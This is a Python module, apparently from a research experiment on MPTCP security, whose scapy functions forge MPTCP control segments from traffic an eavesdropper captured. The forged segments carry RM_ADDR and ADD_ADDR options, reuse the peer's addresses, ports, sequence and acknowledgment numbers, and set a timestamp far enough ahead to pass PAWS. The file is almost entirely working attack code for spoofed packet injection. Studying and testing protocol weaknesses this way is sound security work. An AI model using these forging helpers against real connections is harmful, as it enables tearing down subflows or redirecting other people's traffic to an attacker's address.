"""Forged MPTCP control segments, built from what an eavesdropper saw of a subflow.

Pure functions (scapy packets in, scapy packets out). ``rm_addr_from`` turns the last
segment seen from the peer on a subflow into a forged RM_ADDR in that peer's name: same
addresses, ports, sequence and acknowledgment numbers, a timestamp a little ahead (PAWS),
and an RM_ADDR option. The attack programs of the experiments build on these.
"""

from __future__ import annotations

from scapy.layers.inet import IP, TCP
from scapy.layers.l2 import Ether

from hosts.options import AddAddr, RemoveAddr, encode

TS_AHEAD = 10  # ms ahead of the peer's extrapolated clock: passes PAWS, stays plausible


def _timestamps(tcp) -> tuple[int, int]:
    for name, value in tcp.options:
        if name == "Timestamp":
            return value
    return (0, 0)


def rm_addr_from(seen, addr_ids: tuple[int, ...], dst_mac: str, src_mac: str,
                 now: float | None = None):  # fmt: skip
    """A forged pure ACK carrying RM_ADDR(addr_ids), as ``seen``'s sender would send it."""
    return option_from(seen, encode(RemoveAddr(tuple(addr_ids))), dst_mac, src_mac, now)


def add_addr_from(seen, addr_id: int, address: str, hmac: bytes, trust: bool, dst_mac: str,
                  src_mac: str, now: float | None = None):  # fmt: skip
    """A forged ADD_ADDR (an attacker's address, a made-up HMAC) in ``seen``'s sender's name."""
    opt = encode(AddAddr(addr_id, address, trust=trust, hmac=hmac))
    return option_from(seen, opt, dst_mac, src_mac, now)


def option_from(seen, option: bytes, dst_mac: str, src_mac: str, now: float | None = None):
    """A pure ACK carrying one MPTCP ``option``, forged from the segment ``seen``.

    Linux timestamps tick in milliseconds, so the sender's clock is extrapolated from
    when ``seen`` was captured (``seen.time``) to ``now``: PAWS drops anything older."""
    ip, tcp = seen[IP], seen[TCP]
    tsval, tsecr = _timestamps(tcp)
    if now is not None:
        tsval += int((now - float(seen.time)) * 1000)
    rm = option
    options = [("NOP", None), ("NOP", None), ("Timestamp", (tsval + TS_AHEAD, tsecr)),
               (rm[0], rm[2:])]  # fmt: skip
    forged = TCP(sport=tcp.sport, dport=tcp.dport, seq=tcp.seq + len(bytes(tcp.payload)),
                 ack=tcp.ack, flags="A", window=tcp.window, options=options)  # fmt: skip
    return Ether(src=src_mac, dst=dst_mac) / IP(src=ip.src, dst=ip.dst) / forged
